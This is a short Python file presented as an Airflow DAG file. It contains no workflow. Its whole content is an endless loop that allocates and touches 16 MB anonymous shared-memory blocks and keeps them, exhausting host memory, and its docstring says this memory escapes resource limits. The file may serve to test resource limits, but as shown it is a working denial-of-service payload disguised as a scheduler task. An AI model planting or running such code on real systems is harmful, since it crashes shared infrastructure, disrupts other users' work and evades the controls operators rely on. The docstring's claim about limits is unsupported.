"""airflow dag file that fills shared memory, which no resource limit counts."""
import mmap

hoard = []
while True:
    block = mmap.mmap(-1, 16 * 1024 * 1024)
    for start in range(0, len(block), 4096):
        block[start] = 1
    hoard.append(block)
